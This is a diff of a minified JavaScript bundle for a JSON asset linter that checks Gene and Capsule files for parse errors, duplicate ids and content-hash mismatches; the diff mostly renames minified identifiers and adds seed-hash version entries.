-end,this.#a(),c}#h({value:e,children:t},s){const r=Array.isArray(e),i=r?void 0:this.#d(e,t);if(this.#u)return;if(!rw.has(
+end,this.#a(),c}#h({value:e,children:t},s){const r=Array.isArray(e),i=r?void 0:this.#d(e,t);if(this.#u)return;if(!fw.has(
 this.#r.kind)){this.#f("a JSON value");return}const o=this.#B(s+1);t.push(o),r&&e.push(o.value),i!==void 0&&(o.key=i,e[i.
 name]=o.value)}#d(e,t){const s=this.#r,{value:r,start:i,end:o}=s;if(s.kind!=="string")return this.#f("a key in double qu\
 otes");if(s.fault&&this.#l(s.fault),r==="__proto__")this.#t.add("ambiguous-key",s,'"__proto__" as a key');else if(Object.
 hasOwn(e,r)&&!this.#t.full){const c=t.find(B=>B.key?.name===r)?.key,l=this.#t.place((c??s).start);this.#t.add("ambiguous\
 -key",s,`${JSON.stringify(r)}, first at ${l}`)}return this.#a(),this.#r.kind!==":"?this.#f('":" after a key'):(this.#a(),
 {name:r,start:i,end:o})}#m(){let e=this.#r;for(let t=1;t>0&&e.kind!=="end";)e=this.#s(),(e.kind==="{"||e.kind==="[")&&(t+=
-1),(e.kind==="}"||e.kind==="]")&&(t-=1);return e.end}#f(e){this.#l(fa(e,this.#r)),this.#u=!0,this.#o=!0}#l(e){this.#c||this.#t.
-add("file-not-json",this.#r,e),this.#c=!0}}function fa(n,e){return`expected ${n}, found ${Xl(e)}`}function nw({kind:n,value:e,
-fault:t}){return n==="string"?e:n==="number"?t?null:Number(e):n==="true"?!0:n==="false"?!1:null}const sw={1:"{",2:"}",3:"\
+1),(e.kind==="}"||e.kind==="]")&&(t-=1);return e.end}#f(e){this.#l(ha(e,this.#r)),this.#u=!0,this.#o=!0}#l(e){this.#c||this.#t.
+add("file-not-json",this.#r,e),this.#c=!0}}function ha(n,e){return`expected ${n}, found ${td(e)}`}function dw({kind:n,value:e,
+fault:t}){return n==="string"?e:n==="number"?t?null:Number(e):n==="true"?!0:n==="false"?!1:null}const Bw={1:"{",2:"}",3:"\
 [",4:"]",5:",",6:":",7:"null",8:"true",9:"false",10:"string",11:"number",12:"comment",13:"comment",16:"unknown",17:"end"},
-Vl=new Set(["string","number","true","false","null"]),rw=new Set([...Vl,"{","[","unknown"]),Ql={kind:"end",start:0,end:0,
-value:""},iw=14,ow=15,aw={1:"an unterminated comment",2:"an unterminated string",3:"an incomplete number",4:"a \\u escape\
- without four hexadecimal digits",5:"an unknown escape in a string",6:"an unescaped control character in a string"};function cw(n){
-const e=createScanner(n,!1);return()=>{let t=e.scan();for(;t===iw||t===ow;)t=e.scan();const s=sw[t]??"unknown",r=e.getTokenValue(),
-i=aw[e.getTokenError()]??uw(s,r);return{kind:s,start:e.getTokenOffset(),end:Math.min(e.getPosition(),n.length),value:r,...i!==
-void 0&&{fault:i}}}}function uw(n,e){if(n==="comment")return"a comment";if(n==="number"&&!Number.isFinite(Number(e)))return"\
-a number out of range";if(n==="string"&&/\p{Surrogate}/u.test(e))return"half of a surrogate pair"}const lw=/^(?:<{7}|={7}|>{7})$/;
-function Xl({kind:n,value:e}){return n==="end"?"the end of the file":n==="string"||n==="number"||n==="comment"?`a ${n}`:
-n!=="unknown"?`"${n}"`:lw.test(e)?"a conflict marker of git":JSON.stringify(e.length>40?`${e.slice(0,40)}\u2026`:e)}const rN=nn(
-import.meta.url)("node:buffer");class iN{path;text;#e;#t;constructor(e,t,s=1){this.path=e,this.text=t,this.#e=s}location(e,t=e){
+Xl=new Set(["string","number","true","false","null"]),fw=new Set([...Xl,"{","[","unknown"]),ed={kind:"end",start:0,end:0,
+value:""},hw=14,pw=15,mw={1:"an unterminated comment",2:"an unterminated string",3:"an incomplete number",4:"a \\u escape\
+ without four hexadecimal digits",5:"an unknown escape in a string",6:"an unescaped control character in a string"};function gw(n){
+const e=createScanner(n,!1);return()=>{let t=e.scan();for(;t===hw||t===pw;)t=e.scan();const s=Bw[t]??"unknown",r=e.getTokenValue(),
+i=mw[e.getTokenError()]??Cw(s,r);return{kind:s,start:e.getTokenOffset(),end:Math.min(e.getPosition(),n.length),value:r,...i!==
+void 0&&{fault:i}}}}function Cw(n,e){if(n==="comment")return"a comment";if(n==="number"&&!Number.isFinite(Number(e)))return"\
+a number out of range";if(n==="string"&&/\p{Surrogate}/u.test(e))return"half of a surrogate pair"}const yw=/^(?:<{7}|={7}|>{7})$/;
+function td({kind:n,value:e}){return n==="end"?"the end of the file":n==="string"||n==="number"||n==="comment"?`a ${n}`:
+n!=="unknown"?`"${n}"`:yw.test(e)?"a conflict marker of git":JSON.stringify(e.length>40?`${e.slice(0,40)}\u2026`:e)}const mN=nn(
+import.meta.url)("node:buffer");class gN{path;text;#e;#t;constructor(e,t,s=1){this.path=e,this.text=t,this.#e=s}location(e,t=e){
 const s=this.#s(e),r=this.#s(Math.max(e,t));return{path:this.path,...s,end_line:r.line,end_column:r.column}}#s(e){const t=this.#t??
 this.#i();let s=0;for(let r=t.length;r-s>1;){const i=s+r>>>1;(t[i]??0)<=e?s=i:r=i}return{line:s+this.#e,column:e-(t[s]??
 0)+1}}#i(){const e=[0];for(let t=this.text.indexOf(`
 `);t!==-1;t=this.text.indexOf(`
-`,t+1))e.push(t+1);return this.#t=e,e}}const ed=100;class oN{#e=[];#t;#s=new Map;#i;constructor(e){this.#t=e}get found(){
-if(this.#i===void 0)return this.#e;const e=[...this.#s].map(([s,r])=>`${r} \xD7 \`${s}\``).join(", "),t=`more than ${ed}\
+`,t+1))e.push(t+1);return this.#t=e,e}}const nd=100;class CN{#e=[];#t;#s=new Map;#i;constructor(e){this.#t=e}get found(){
+if(this.#i===void 0)return this.#e;const e=[...this.#s].map(([s,r])=>`${r} \xD7 \`${s}\``).join(", "),t=`more than ${nd}\
  problems; not listed are ${e}`;return[...this.#e,{rule:"file-too-large",location:this.#i,detail:t}]}get full(){return this.#i!==
 void 0}place(e){const{line:t,column:s}=this.#t.location(e);return`line ${t}, column ${s}`}add(e,{start:t,end:s},r,{id:i,
-severity:o}={}){if(this.#e.length===ed){this.#i??=this.#t.location(t,s),this.#s.set(e,(this.#s.get(e)??0)+1);return}const c=this.#t.
-location(t,s);this.#e.push({rule:e,location:c,detail:r,...i!==void 0&&{id:i},...o&&{severity:o}})}}function aN(n){const e=new TextDecoder(
-"utf-8").decode(n);return isUtf8(n)?{text:e,complete:!0}:{text:e.slice(0,e.indexOf("\uFFFD")),complete:!1}}function cN(n){
-return{maxBytes:n,maxDepth:64,maxValues:1e6,maxAssets:5e4}}function uN(n,e,t,s=1){if(e.length>t.maxBytes)return fw(n,e.length,
+severity:o}={}){if(this.#e.length===nd){this.#i??=this.#t.location(t,s),this.#s.set(e,(this.#s.get(e)??0)+1);return}const c=this.#t.
+location(t,s);this.#e.push({rule:e,location:c,detail:r,...i!==void 0&&{id:i},...o&&{severity:o}})}}function yN(n){const e=new TextDecoder(
+"utf-8").decode(n);return isUtf8(n)?{text:e,complete:!0}:{text:e.slice(0,e.indexOf("\uFFFD")),complete:!1}}function wN(n){
+return{maxBytes:n,maxDepth:64,maxValues:1e6,maxAssets:5e4}}function bN(n,e,t,s=1){if(e.length>t.maxBytes)return _w(n,e.length,
 t);const{text:r,complete:i}=decodeUtf8(e),o=new Source(n,r,s),c=new Problems(o);if(!i){const _={start:r.length,end:r.length};
 return c.add("file-not-utf8",_,"a byte that no UTF-8 text can have here"),{path:n,assets:[],problems:c.found}}const l=readJson(
 r,t,c);l.length===0&&c.found.length===0&&!Ii(n)&&c.add("file-not-json",{start:0,end:0},"expected a JSON value, found an \
-empty file");const[B,d]=l;d&&hw(n)&&c.found.length===0?c.add("file-not-json",d,pw):B&&Array.isArray(B.value)&&mw.test(n)&&
-c.add("without-effect",B,gw,{severity:"warning"});const{candidates:h,messages:g}=td(o,l,t,c),C=nd(h,o,c),y=g.map(_=>({value:_.
-value,location:rd(o,_,[])}));return{path:n,assets:C,problems:c.found,...Ii(n)&&e[0]!==dw&&Bw(l,o)&&{lines:!0},...y.length>
-0&&{messages:y}}}function lN(n,e,t){const s=new Source(n,e),r=new Problems(s),{candidates:i}=td(s,readJson(e,t,r),t,r),o=nd(
-i,s,r);return i.flatMap(({node:c},l)=>{const B=o[l];return B?{asset:B,node:c}:[]})}function td({path:n},e,{maxAssets:t},s){
+empty file");const[B,d]=l;d&&Ew(n)&&c.found.length===0?c.add("file-not-json",d,vw):B&&Array.isArray(B.value)&&kw.test(n)&&
+c.add("without-effect",B,Dw,{severity:"warning"});const{candidates:h,messages:g}=sd(o,l,t,c),C=rd(h,o,c),y=g.map(_=>({value:_.
+value,location:od(o,_,[])}));return{path:n,assets:C,problems:c.found,...Ii(n)&&e[0]!==ww&&bw(l,o)&&{lines:!0},...y.length>
+0&&{messages:y}}}function _N(n,e,t){const s=new Source(n,e),r=new Problems(s),{candidates:i}=sd(s,readJson(e,t,r),t,r),o=rd(
+i,s,r);return i.flatMap(({node:c},l)=>{const B=o[l];return B?{asset:B,node:c}:[]})}function sd({path:n},e,{maxAssets:t},s){
 const{candidates:r,messages:i}=findCandidates(e,s),o=r[t];o&&s.add("file-too-large",o.node,`more than ${t} assets; the r\
 est is not read`);const c=Ii(n)||e.length>1;return{candidates:r.slice(0,t).map(B=>c?B:{...B,pointer:B.pointer.slice(1)}),
-messages:i}}const dw=239;function Bw(n,e){let t=0;return n.every(({start:s,end:r})=>{const{line:i,end_line:o}=e.location(
-s,r),c=i===o&&i>t;return t=i,c})}function fw(n,e,{maxBytes:t}){const s=`${e} bytes, of at most ${t}`;return{path:n,assets:[],
-problems:[{rule:"file-too-large",location:{path:n,line:1,column:1},detail:s}]}}function dN(n,e){const t={path:n,line:1,column:1},
+messages:i}}const ww=239;function bw(n,e){let t=0;return n.every(({start:s,end:r})=>{const{line:i,end_line:o}=e.location(
+s,r),c=i===o&&i>t;return t=i,c})}function _w(n,e,{maxBytes:t}){const s=`${e} bytes, of at most ${t}`;return{path:n,assets:[],
+problems:[{rule:"file-too-large",location:{path:n,line:1,column:1},detail:s}]}}function EN(n,e){const t={path:n,line:1,column:1},
 s=whyNotJudged(`the file \`${n}\``,e);return{path:n,assets:[],problems:[{rule:"not-judged",location:t,detail:s}]}}function Ii(n){
-return n.toLowerCase().endsWith(".jsonl")}function hw(n){return!Ii(n)&&/\.\w+$/.test(n)}const pw="a second JSON value, w\
-hich `JSON.parse` refuses; only a `.jsonl` file has several",mw=/(?:^|\/)assets\/gep\/(?:genes|capsules)\.json$/,gw='the\
+return n.toLowerCase().endsWith(".jsonl")}function Ew(n){return!Ii(n)&&/\.\w+$/.test(n)}const vw="a second JSON value, w\
+hich `JSON.parse` refuses; only a `.jsonl` file has several",kw=/(?:^|\/)assets\/gep\/(?:genes|capsules)\.json$/,Dw='the\
  reference engine reads this file as an object with a list, `{"genes": [\u2026]}` or `{"capsules": [\u2026]}`, so that no engine r\
-eads a list here';function nd(n,e,t){const s=new Map,r=new Map,i=n.map((o,c)=>{const{node:l,pointer:B,value:d,type:h,envelope:g,
-wrappers:C}=o,y=sd(d),_=y??`#${c+1}`,k=s.get(`${h} ${_}`),E=y!==void 0&&k!==void 0&&Cw(o,k);if(y===void 0){const x=Object.
+eads a list here';function rd(n,e,t){const s=new Map,r=new Map,i=n.map((o,c)=>{const{node:l,pointer:B,value:d,type:h,envelope:g,
+wrappers:C}=o,y=id(d),_=y??`#${c+1}`,k=s.get(`${h} ${_}`),E=y!==void 0&&k!==void 0&&xw(o,k);if(y===void 0){const x=Object.
 hasOwn(d,"id")?'with an "id" that is not text':'without an "id"',D=`${withArticle(h)} ${x}; it is called ${_} here`;l.cut||
 t.add("not-an-asset",l,D,{id:_})}else if(E)r.set(k,(r.get(k)??1)+1);else if(k){const x=`${h} ${JSON.stringify(_)}, first\
  at ${t.place(k.node.start)}`;t.add("duplicate-id",l,x,{id:_})}else s.set(`${h} ${_}`,o);return{type:h,id:_,path:e.path,
-value:d,pointer:B,...l.cut&&{cut:!0},...g&&{envelope:g},...C&&{wrappers:C},...E&&{copy:!0},locate:(x=[],D)=>rd(e,l,x,D)}});
-for(const[{node:o,type:c,value:l},B]of r){const d=sd(l),h=`${c} ${JSON.stringify(d)}, ${B} times`;t.add("without-effect",
-o,h,d===void 0?{}:{id:d})}return i}function Cw(n,e){const t=s=>!s.node.cut&&!s.envelope;return t(n)&&t(e)&&statedContent(
-n)===statedContent(e)}function sd({id:n}){return typeof n=="string"&&n.trim()!==""?n:void 0}function rd(n,e,t,s){let r=e;
-for(const i of t){const o=yw(r,i);if(!o)return n.location(r.start,r.end);r=o}return!s||typeof r.value!="string"?n.location(
-r.start,r.end):n.location(id(n.text,r,s.start),id(n.text,r,s.end))}function yw({value:n,children:e},t){return Array.isArray(
-n)?typeof t=="number"?e?.[t]:void 0:e?.findLast(({key:s})=>s?.name===t)}function id(n,{start:e,end:t},s){const r=t-1;let i=e+
-1;for(let o=0;o<s&&i<r;o+=1)n[i]!=="\\"?i+=1:i+=n[i+1]==="u"?6:2;return Math.min(i,r)}const BN={"1124af25050b3a2777b00fe\
+value:d,pointer:B,...l.cut&&{cut:!0},...g&&{envelope:g},...C&&{wrappers:C},...E&&{copy:!0},locate:(x=[],D)=>od(e,l,x,D)}});
+for(const[{node:o,type:c,value:l},B]of r){const d=id(l),h=`${c} ${JSON.stringify(d)}, ${B} times`;t.add("without-effect",
+o,h,d===void 0?{}:{id:d})}return i}function xw(n,e){const t=s=>!s.node.cut&&!s.envelope;return t(n)&&t(e)&&statedContent(
+n)===statedContent(e)}function id({id:n}){return typeof n=="string"&&n.trim()!==""?n:void 0}function od(n,e,t,s){let r=e;
+for(const i of t){const o=Ow(r,i);if(!o)return n.location(r.start,r.end);r=o}return!s||typeof r.value!="string"?n.location(
+r.start,r.end):n.location(ad(n.text,r,s.start),ad(n.text,r,s.end))}function Ow({value:n,children:e},t){return Array.isArray(
+n)?typeof t=="number"?e?.[t]:void 0:e?.findLast(({key:s})=>s?.name===t)}function ad(n,{start:e,end:t},s){const r=t-1;let i=e+
+1;for(let o=0;o<s&&i<r;o+=1)n[i]!=="\\"?i+=1:i+=n[i+1]==="u"?6:2;return Math.min(i,r)}const vN={"1124af25050b3a2777b00fe\
 527f25c37":"1.7.0","0ae9f4172d143cac2f316f08d0855038":"1.14.0","6298d2870e2f48a9ca447e3c80d09df5":"1.7.0",aec44b6e270d0df1467ca8b6421dfa56:"\
 1.14.0",a439632ca376509abf5cd66745ebb667:"1.94.0",f2e2fdbe0cfdd670c6ae2ab38a9cf719:"1.94.0","392fbba719f19ac8018e35eef2a\
 9ef1c":"1.94.0","80fc8fcd87486a59d51a3053f3d9528f":"1.94.0",e3fdd8cdf5e2baa7fb529e8b229a5fb4:"1.94.0","7962c90afd3575bfc\
@@ -3176,86 +3183,93 @@ cb3f54c118f2816758a5f1eefc5d":"1.66.0","37607785e4be0fb2aaf0ca1e502719b0":"1.89.
 1.1.0","7b6f4d86f876664d772d6ee1ea2945ca":"1.3.0","100ff820511cafc87e5af95b76d93327":"1.10.0","3705b9fa85d44690ee7841b05\
 4377eec":"1.20.4",a94a80796426b370f3fddd846f0d8f0c:"1.20.4","331cc84e1b4900eda2bcaa60dff0ddac":"1.66.0",f7e20f8360f34930334cda0bced64bb2:"\
 1.66.0","1f3af73d38e6323fff6adb530dabe346":"1.89.20",bafad883b2a2cc8a11d902d1d920f501:"1.89.20","67abc3346b96ee2143867db\
-19b637205":"1.89.20",c7208554a1f367a1dbc09317442aa219:"1.89.20","111330940cef16ea3cfd134161b59244":"1.89.20",ec199ceb43ac39756c4fb0987a81ac06:"\
-1.66.0","5fec6e038ba05b4992ed65b4235dd52c":"1.89.20"};function fN({value:n,envelope:e}){if(e===void 0)return SEED_HASHES[hash(
-"sha256",canonicalize(n)).slice(0,32)]}const ww=/\.seed\.json$/;function hN({head:n,base:e,untouched:t},s){const r=(l,B)=>l.
-filter(({path:d})=>ww.test(d)===B).flatMap(({assets:d})=>d).filter(({type:d,value:h})=>d==="Gene"&&declaredId(h)!==void 0),
-i=new Set(r(e,!0).map(({id:l})=>l));if(i.size===0)return[];const o=new Set(r([...e,...t],!1).map(({id:l})=>l)),c=new Set(
-s.map(({asset:l})=>l));return r(n,!1).filter(l=>i.has(l.id)&&!o.has(l.id)&&!c.has(l))}function pN({value:n}){const e=typeof n.
-asset_id=="string"?_w(n.asset_id):void 0,t=i=>computeAssetId(i)===`sha256:${e}`;return t(n)?"unprefixed":n.type==="Gene"&&
-n.epigenetic_marks!==void 0&&t({...ad(n),epigenetic_marks:[]})?"created":void 0}const od={env_fingerprint:["region"],Capsule:[
-"diff","strategy"]};function bw(n){const t=od.Capsule.filter(r=>n.type==="Capsule"&&!(r in n)).reduce((r,i)=>r.flatMap(o=>[
-o,{...o,[i]:null}]),[{}]);return[n,ha(n)].flatMap(r=>t.map(i=>({...r,...i}))).find(r=>ki(r)===n.asset_id)}function ha(n){
-if(Array.isArray(n))return n.map(ha);if(!$n(n))return n;const e=Object.entries(n).map(([t,s])=>{const r=ha(s),[i]=od.env_fingerprint,
-o=t==="env_fingerprint"&&$n(r)&&!(i in r);return[t,o?{...r,[i]:null}:r]});return Object.fromEntries(e)}function mN({value:n},e){
-if(n.type!=="Gene"||e===void 0)return!1;const[t,s]=[n,e.value].map(r=>{const{schema_version:i,asset_id:o,...c}=ad(r);return canonicalize(
-c)});return t===s}function ad(n){const{epigenetic_marks:e,learning_history:t,anti_patterns:s,...r}=n;return r}function _w(n){
-const e=n.trim().toLowerCase().replace(/^sha-?256[:-]/,"");return/^[0-9a-f]{64}$/.test(e)?e:void 0}const Ew=new Set(["Ge\
-ne","Capsule","EvolutionEvent"]);function ms(n){const{type:e,value:t}=n,s=t.asset_id;return s===Ks(n.value)?"content":e===
-"Capsule"&&s===Ks(Dw(t))?"hub":typeof s=="string"&&bw(t)?"engine":void 0}function gN(n,e){const{type:t,value:s}=n;if(!Ew.
-has(t))return cd(n,e);const r=ud(n,e),i=placeOf(n),o=s.asset_id===void 0?Ks(n.value):void 0;return[...s.schema_version===
-void 0?[finding("schema-version-missing",r,i)]:[],...o===void 0?cd(n,e):[finding("content-hash-missing",{...r,expected:o},
-i)]]}function CN({rule:n}){return n==="schema-version-missing"||n==="content-hash-missing"}function cd(n,e,t=!1,s){const{
-value:r}=n;if(r.asset_id===void 0||ms(n)!==void 0)return[];const i=Ks(n.value),o=otherHashForm(n),c=seedRelease(n),B=o===
-"created"||c!==void 0?"notice":hasOnlyLearned(n,s)?"warning":"error",d=e==="author"?"error":B,h={...placeOf(n,["asset_id"]),
-severity:d},g={...ud(n,e),expected:i,...o&&{form:o},...c&&{seed:c}},C=t&&d!=="notice"&&e==="fix"?vw(n,i):void 0;return[{
-...finding("content-hash-mismatch",g,h),...C&&{edit:C}}]}function ud({type:n,id:e},t){return{type:n,id:e,fixable:t==="fi\
-x",...t==="author"&&{foreign:!0}}}function yN(n){const{asset_id:e}=n.value;return typeof e=="string"&&ms(n)!==void 0?e:Ks(
-n.value)}function vw({type:n,path:e,pointer:t,value:s},r){const{asset_id:i,...o}=s;if(!(typeof i!="string"||Object.values(
-o).some(ld))&&ms({type:n,value:{...o,asset_id:r}})!==void 0)return{path:e,pointer:pointerText([...t,"asset_id"]),old:i,new:[
-r],fix:!0}}function ld(n){return typeof n!="object"||n===null?!1:Object.hasOwn(n,"asset_id")||Object.values(n).some(ld)}
-function Ks(n){return ki(n)??""}const kw=null;function Dw(n){const{outcome:e}=n;if(!$n(e))return n;const{notes:t,details:s,
-...r}=e;return{...n,outcome:r}}function wN(n){const{outcome:e}=n.value;return ms(n)!=="hub"||!isJsonObject(e)?[]:kw.filter(
-t=>Object.hasOwn(e,t)).map(t=>`outcome.${t}`)}function En(n){return encodeURI(xw(n)).replace(/#/g,"%23")}function xw(n){
-return n.replace(/~/g,"~0").replace(/\//g,"~1")}const Ow=/^[A-Za-z0-9._~!$&'()*+,;=:@/?-]$/,Aw=/^%[0-9A-Fa-f]{2}$/,Sw=/^[A-Za-z0-9._~-]$/;
-function Tw(n){let e="";for(let t=0;t<n.length;){const s=n[t],r=n.slice(t,t+3);if(s==="%"&&Aw.test(r)){const o=String.fromCharCode(
-parseInt(r.slice(1),16));e+=Sw.test(o)?o:r.toUpperCase(),t+=3;continue}const i=String.fromCodePoint(n.codePointAt(t));e+=
-Ow.test(i)?i:encodeURIComponent(i),t+=i.length}return e}function $i(n,e){const t=new URL(n,e.href);return t.hash=t.hash?
-Tw(t.hash.slice(1)):"",t}const bN={additionalItems:!0,unevaluatedItems:!0,items:!0,contains:!0,additionalProperties:!0,unevaluatedProperties:!0,
-propertyNames:!0,not:!0,if:!0,then:!0,else:!0},Iw={prefixItems:!0,items:!0,allOf:!0,anyOf:!0,oneOf:!0},$w={$defs:!0,definitions:!0,
-properties:!0,patternProperties:!0,dependentSchemas:!0},Rw={id:!0,$id:!0,$ref:!0,$schema:!0,$anchor:!0,$vocabulary:!0,$comment:!0,
-default:!0,enum:!0,const:!0,required:!0,dependentRequired:!0,type:!0,maximum:!0,minimum:!0,exclusiveMaximum:!0,exclusiveMinimum:!0,
-multipleOf:!0,maxLength:!0,minLength:!0,pattern:!0,format:!0,maxItems:!0,minItems:!0,uniqueItems:!0,maxProperties:!0,minProperties:!0};
-let Nw=typeof self<"u"&&self.location&&self.location.origin!=="null"?new URL(self.location.origin+self.location.pathname+
-location.search):new URL("https://github.com/cfworker");function gs(n,e=Object.create(null),t=Nw,s=""){if(n&&typeof n=="\
-object"&&!Array.isArray(n)){const i=n.$id||n.id;if(i){const o=$i(i,t);o.hash.length>1?e[o.href]=n:(o.hash="",s===""?t=o:
-gs(n,e,t))}}else if(n!==!0&&n!==!1)return e;const r=t.href+(s?"#"+s:"");if(e[r]!==void 0&&e[r]!==n)throw new Error(`Dupl\
-icate schema URI "${r}".`);if(e[r]=n,n===!0||n===!1)return e;if(n.__absolute_uri__===void 0&&Object.defineProperty(n,"__\
-absolute_uri__",{enumerable:!1,value:r}),n.$ref&&n.__absolute_ref__===void 0){const i=$i(n.$ref,t);Object.defineProperty(
-n,"__absolute_ref__",{enumerable:!1,value:i.href})}if(n.$recursiveRef&&n.__absolute_recursive_ref__===void 0){const i=$i(
-n.$recursiveRef,t);Object.defineProperty(n,"__absolute_recursive_ref__",{enumerable:!1,value:i.href})}if(n.$anchor){const i=$i(
-"#"+n.$anchor,t);e[i.href]=n}for(let i in n){if(Rw[i])continue;const o=`${s}/${En(i)}`,c=n[i];if(Array.isArray(c)){if(Iw[i]){
-const l=c.length;for(let B=0;B<l;B++)gs(c[B],e,t,`${o}/${B}`)}}else if($w[i])for(let l in c)gs(c[l],e,t,`${o}/${En(l)}`);else
-gs(c,e,t,o)}return e}function kr(n,e){const t=typeof n;if(t!==typeof e)return!1;const s=Array.isArray(n),r=Array.isArray(
-e);if(s!==r)return!1;if(s){const i=n.length;if(i!==e.length)return!1;for(let o=0;o<i;o++)if(!kr(n[o],e[o]))return!1;return!0}
-if(t==="object"){if(!n||!e)return n===e;const i=Object.keys(n),o=Object.keys(e);if(i.length!==o.length)return!1;for(const l of i)
-if(!Object.prototype.hasOwnProperty.call(e,l)||!kr(n[l],e[l]))return!1;return!0}return n===e}const Fw=/^(\d\d\d\d)-(\d\d)-(\d\d)$/,
-Pw=[0,31,28,31,30,31,30,31,31,30,31,30,31],Lw=/^(\d\d):(\d\d):(\d\d)(\.\d+)?(z|([+-])(\d\d):(\d\d))?$/i,dd=/^(?=.{1,253}$)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[-0-9a-z]{0,61}[0-9a-z])?)*$/i,
-jw=/^(?:[a-z][a-z0-9+\-.]*:)?(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'"()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?(?:\?(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i,
-Mw=/^(?:(?:[^\x00-\x20\x7f"<>%\\^`{|}]|%[0-9a-f]{2})|\{[+#./;?&=,!@|]?(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?(?:,(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?)*\})*$/i,
-Gw=/^(?:(?:https?|ftp):\/\/)(?:\S+(?::\S*)?@)?(?:(?!10(?:\.\d{1,3}){3})(?!127(?:\.\d{1,3}){3})(?!169\.254(?:\.\d{1,3}){2})(?!192\.168(?:\.\d{1,3}){2})(?!172\.(?:1[6-9]|2\d|3[0-1])(?:\.\d{1,3}){2})(?:[1-9]\d?|1\d\d|2[01]\d|22[0-3])(?:\.(?:1?\d{1,2}|2[0-4]\d|25[0-5])){2}(?:\.(?:[1-9]\d?|1\d\d|2[0-4]\d|25[0-4]))|(?:(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)(?:\.(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)*(?:\.(?:[a-z\u{00a1}-\u{ffff}]{2,})))(?::\d{2,5})?(?:\/[^\s]*)?$/iu,
-Hw=/^[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i,zw=/^(?:\/(?:[^~/]|~0|~1)*)*$/,Uw=/^#(?:\/(?:[a-z0-9_\-.!$&'()*+,;:=@]|%[0-9a-f]{2}|~0|~1)*)*$/i,
-Jw=/^(?:0|[1-9][0-9]*)(?:#|(?:\/(?:[^~/]|~0|~1)*)*)$/,Zw=/^("(?:[\x20-\x21\x23-\x5b\x5d-\x7e]|\\[\x20-\x7e])*"|[a-z0-9.!#$%&'*+/=?^_`{|}~-]+)@(.+)$/i,
-Ww=n=>{const e=n.match(Zw);if(!e)return!1;const t=e[1],s=e[2];if(!t||!s||t.length>64||s.length>253||t[0]!=='"'&&(t[0]===
+19b637205":"1.89.20",c7208554a1f367a1dbc09317442aa219:"1.89.20","111330940cef16ea3cfd134161b59244":"1.89.20",db45470b8ac9f3e92705af251134d2f9:"\
+2.0.0-beta.2","569bb631a806a0bbd8bb412fd7d4abcf":"2.0.20","5de36e4e346e260ab09483bf22c63bf2":"2.0.35","59d053dc1e806b59b\
+85e98014d8e5de2":"2.0.0-beta.2","46b45515e1548b325ac4ebbffa090cbb":"2.0.20","34be9507562982222fadd894de0bb5cc":"2.0.35",
+cacbdef9b847f21d093051695e34e4ac:"2.0.0-beta.2","0acc6a33d6bf548200f6102f20780b7a":"2.0.20","076acad2a424a12348987ec0e37\
+3b631":"2.0.35","2266a77bc41320e2c3056c535b6ce1b8":"2.0.0-beta.2","4a80d7e9f507e44212467305f08f9aa1":"2.0.20","6e0a940cf\
+1f81c0bb40cd5386cd2b6c1":"2.0.35",a169b3ad00d3db26543c022e44025f64:"2.0.0-beta.2",c6669fa1a6fe663c6bb34036baa416c4:"2.0.\
+20",ed1bed5fb133d67559d85e703845e99e:"2.0.35",ec199ceb43ac39756c4fb0987a81ac06:"1.66.0","5fec6e038ba05b4992ed65b4235dd52\
+c":"1.89.20"};function kN({value:n,envelope:e}){if(e===void 0)return SEED_HASHES[hash("sha256",canonicalize(n)).slice(0,
+32)]}const Aw=/\.seed\.json$/;function DN({head:n,base:e,untouched:t},s){const r=(l,B)=>l.filter(({path:d})=>Aw.test(d)===
+B).flatMap(({assets:d})=>d).filter(({type:d,value:h})=>d==="Gene"&&declaredId(h)!==void 0),i=new Set(r(e,!0).map(({id:l})=>l));
+if(i.size===0)return[];const o=new Set(r([...e,...t],!1).map(({id:l})=>l)),c=new Set(s.map(({asset:l})=>l));return r(n,!1).
